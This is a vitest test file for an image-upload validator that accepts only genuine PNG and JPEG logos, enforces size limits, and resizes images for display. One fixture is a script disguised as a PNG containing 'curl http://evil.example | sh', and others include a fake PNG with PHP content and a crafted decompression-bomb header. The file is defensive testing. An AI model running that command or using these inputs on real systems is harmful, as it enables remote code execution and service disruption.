import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { ImageRejectedError, inspectImage, resizeForDisplay, sniffImageType } from '../src/files/images';

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 4, background: { r: 20, g: 120, b: 200, alpha: 1 } } });
const png = (width: number, height: number) => solid(width, height).png().toBuffer();
const jpeg = (width: number, height: number) => solid(width, height).jpeg().toBuffer();

async function rejection(promise: Promise<unknown>): Promise<ImageRejectedError> {
  const error = await promise.then(
    () => null,
    (caught: unknown) => caught,
  );
  if (!(error instanceof ImageRejectedError)) throw new Error('expected the image to be refused');
  return error;
}

describe('inspectImage', () => {
  it('recognises a real PNG and JPEG from their bytes', async () => {
    expect(await inspectImage(await png(30, 12))).toEqual({
      contentType: 'image/png',
      extension: 'png',
      width: 30,
      height: 12,
    });
    expect(await inspectImage(await jpeg(8, 16))).toEqual({
      contentType: 'image/jpeg',
      extension: 'jpg',
      width: 8,
      height: 16,
    });
  });

  it('refuses a script renamed .png, whatever its name says', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
    const error = await rejection(inspectImage(script));
    expect(error.reason).toBe('type');
    expect(error.message).toBe('The logo must be a PNG or JPEG image');
  });

  it('refuses other image types and a PNG signature followed by garbage', async () => {
    const gif = await solid(4, 4).gif().toBuffer();
    const webp = await solid(4, 4).webp().toBuffer();
    const fakePng = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('<?php'),
    ]);
    for (const bytes of [gif, webp, fakePng, Buffer.alloc(0)]) {
      expect((await rejection(inspectImage(bytes))).message).toBe('The logo must be a PNG or JPEG image');
    }
  });

  it('refuses a file over the limit, 5 MB by default', async () => {
    const big = Buffer.concat([await png(2, 2), Buffer.alloc(5 * 1024 * 1024)]);
    const error = await rejection(inspectImage(big));
    expect(error.reason).toBe('size');
    expect(error.message).toBe('The logo must be at most 5 MB');

    const small = await png(40, 40);
    const tight = await rejection(inspectImage(small, { maxBytes: small.length - 1 }));
    expect(tight.message).toMatch(/^The logo must be at most \d+ KB$/);
    await expect(inspectImage(small, { maxBytes: small.length })).resolves.toMatchObject({ width: 40 });
  });

  it('names the subject it is told', async () => {
    const error = await rejection(inspectImage(Buffer.from('x'), { subject: 'The signature' }));
    expect(error.message).toBe('The signature must be a PNG or JPEG image');
  });

  it('refuses a small file that claims a huge canvas', async () => {
    // A real 2x2 PNG whose header is rewritten (with a valid checksum) to claim 50,000 x 50,000.
    const bomb = Buffer.from(await png(2, 2));
    bomb.writeUInt32BE(50_000, 16);
    bomb.writeUInt32BE(50_000, 20);
    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
    expect((await rejection(inspectImage(bomb))).reason).toBe('type');
  });
});

describe('sniffImageType', () => {
  it('reads only the leading bytes', () => {
    expect(sniffImageType(Buffer.from([0xff, 0xd8, 0xff, 0xe0]))).toBe('image/jpeg');
    expect(sniffImageType(Buffer.from([0xff, 0xd8]))).toBeNull();
    expect(sniffImageType(Buffer.from('GIF89a'))).toBeNull();
  });
});

describe('resizeForDisplay', () => {
  it('fits a wide PNG in the box keeping its aspect ratio and format', async () => {
    const resized = await resizeForDisplay(await png(1200, 300), { maxWidth: 400, maxHeight: 400 });
    expect(resized).toMatchObject({ contentType: 'image/png', width: 400, height: 100 });
    expect(await sharp(resized.body).metadata()).toMatchObject({ format: 'png', width: 400, height: 100 });
  });

  it('fits a tall JPEG by its height', async () => {
    const resized = await resizeForDisplay(await jpeg(300, 900), { maxWidth: 400, maxHeight: 300 });
    expect(resized).toMatchObject({ contentType: 'image/jpeg', width: 100, height: 300 });
    expect((await sharp(resized.body).metadata()).format).toBe('jpeg');
  });

  it('never enlarges a small image', async () => {
    const resized = await resizeForDisplay(await png(50, 20), { maxWidth: 400, maxHeight: 400 });
    expect(resized).toMatchObject({ width: 50, height: 20 });
  });
});
